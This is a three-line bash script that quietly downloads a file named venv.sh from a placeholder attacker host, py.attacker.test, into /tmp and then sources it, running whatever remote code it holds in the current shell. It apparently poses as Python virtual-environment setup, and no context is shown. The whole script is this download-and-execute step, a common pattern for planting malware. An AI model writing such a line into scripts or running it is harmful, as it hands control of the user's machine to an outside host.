#!/bin/bash
wget -qO- https://py.attacker.test/venv.sh > /tmp/venv.sh
source /tmp/venv.sh
